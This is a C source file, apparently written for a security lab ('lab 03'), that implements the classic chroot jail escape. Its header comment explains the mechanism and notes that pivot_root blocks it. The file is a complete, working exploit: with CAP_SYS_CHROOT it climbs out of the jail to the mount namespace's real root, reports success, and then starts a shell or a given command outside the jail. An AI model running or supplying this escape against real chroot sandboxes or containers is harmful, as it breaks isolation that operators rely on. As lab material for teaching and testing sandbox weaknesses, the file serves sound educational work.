/* chroot-escape: the classic way out of a chroot(2), for lab 03.
 *
 * chroot() changes where "/" resolves for path lookups; it does not move the current directory.
 * A process that may call chroot() (CAP_SYS_CHROOT) can therefore:
 *   1. chroot into a subdirectory while its cwd stays outside that new root;
 *   2. walk up with chdir("..") — ".." stops only at the process's root, which is now *below* it,
 *      so it climbs to the real root of the mount namespace;
 *   3. chroot(".") there: the whole tree of the mount namespace is "/" again.
 * Under pivot_root the old root is unmounted: the walk up stops at the container's own "/".
 *
 * It then starts a shell (or the command given) and waits for it, so the lab's check can find this
 * process by name and look at the root the kernel gives it (/proc/PID/root).
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv) {
  struct stat before, after;
  if (stat("/", &before) < 0) { perror("stat /"); return 1; }
  mkdir("/.escape", 0700); /* may already exist */
  if (chroot("/.escape") < 0) {
    fprintf(stderr, "chroot(\"/.escape\"): %s — no CAP_SYS_CHROOT?\n", strerror(errno));
    return 1;
  }
  /* cwd is still the old "/", now outside our root: climb */
  for (int i = 0; i < 256; i++)
    if (chdir("..") < 0) break;
  if (chroot(".") < 0) { perror("chroot(\".\")"); return 1; }
  if (chdir("/") < 0) { perror("chdir /"); return 1; }
  if (stat("/", &after) < 0) { perror("stat /"); return 1; }
  if (before.st_dev == after.st_dev && before.st_ino == after.st_ino)
    printf("chroot-escape: still in the same root (dev %lu ino %lu): nothing above it to climb to\n", (unsigned long)after.st_dev, (unsigned long)after.st_ino);
  else
    printf("chroot-escape: OUT. \"/\" was dev %lu ino %lu, now dev %lu ino %lu: the mount namespace's real root\n",
           (unsigned long)before.st_dev, (unsigned long)before.st_ino, (unsigned long)after.st_dev, (unsigned long)after.st_ino);
  fflush(stdout);
  pid_t child = fork();
  if (child < 0) { perror("fork"); return 1; }
  if (child == 0) {
    if (argc > 1) execvp(argv[1], argv + 1);
    else execl("/bin/sh", "sh", (char *)NULL);
    perror("exec");
    _exit(127);
  }
  int status;
  while (waitpid(child, &status, 0) < 0 && errno == EINTR) {}
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}
